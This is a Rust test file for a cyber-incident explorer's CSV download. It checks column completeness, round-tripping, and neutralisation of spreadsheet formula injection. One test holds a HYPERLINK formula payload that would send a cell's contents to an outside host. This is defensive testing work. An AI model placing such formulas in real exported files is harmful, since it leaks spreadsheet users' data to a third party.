//! The CSV download's rows, written by the core (`Explorer::csv_rows`): every column of the schema,
//! lists joined as the reader splits them, nothing a spreadsheet would run as a formula, and the
//! file reads back into the same incidents.
#![cfg(not(target_arch = "wasm32"))]

use cyber_spectrum::import::COLUMNS;
use cyber_spectrum::{Explorer, Filter};

const HEADER_AND: &str = "id,name,start,end,initiator,targets,target_type,method,objective,severity,effects,rationale,attributed_by,attribution_date,certainty,description,sources\n";

/// Cells of CSV text, read by the csv crate (a real parser, not ours).
fn cells(text: &str) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect()
}

#[test]
fn rows_hold_every_column_and_read_back_as_the_same_incidents() {
    let ex = Explorer::bundled().unwrap();
    let rows = ex.select(&Filter::default()).unwrap();
    let header = COLUMNS.iter().map(|c| c.name).collect::<Vec<_>>().join(",");
    let text = format!("{header}\r\n{}", ex.csv_rows(&rows).unwrap());
    let table = cells(&text);
    assert_eq!(table.len(), rows.len() + 1);
    // No column is left empty in every row (each name of COLUMNS has its value).
    for (n, c) in COLUMNS.iter().enumerate() {
        assert!(table[1..].iter().any(|r| !r[n].is_empty()), "column {} is never written", c.name);
    }
    let back = Explorer::from_text(&text, "csv").unwrap();
    assert_eq!(back.all(), ex.all());
    assert!(ex.csv_rows(&[u32::MAX]).unwrap_err().to_string().contains("past the"));
}

#[test]
fn no_cell_starts_a_formula_and_the_payload_comes_back_as_text() {
    let payload = r#"=HYPERLINK("http://host/x?"&A9,"Click for sources")"#;
    let quoted = payload.replace('"', "\"\"");
    let data = format!(
        "{HEADER_AND}@id,\"{quoted}\",2014-11-24,,PRK,USA;KOR,,,,5,data,+1 level,-cmd,,suspected,\"\tTabbed, with a comma\",https://a.example/1 https://b.example/2\n"
    );
    let ex = Explorer::from_text(&data, "csv").unwrap();
    let text = ex.csv_rows(&[0]).unwrap();
    let row = &cells(&text)[0];
    for c in row {
        assert!(!c.starts_with(['=', '+', '-', '@', '\t', '\r']), "a cell starts a formula: {c:?}");
    }
    assert_eq!(row[1], format!("'{payload}"));
    assert_eq!(row[5], "USA;KOR");
    assert_eq!(row[14], "suspected");
    assert_eq!(row[15], "", "scope not coded");
    assert_eq!(row[17], "https://a.example/1 https://b.example/2");
    // Read back, the apostrophes go and the texts are as they were.
    let header = COLUMNS.iter().map(|c| c.name).collect::<Vec<_>>().join(",");
    let back = Explorer::from_text(&format!("{header}\r\n{text}"), "csv").unwrap();
    assert_eq!(back.all(), ex.all());
}
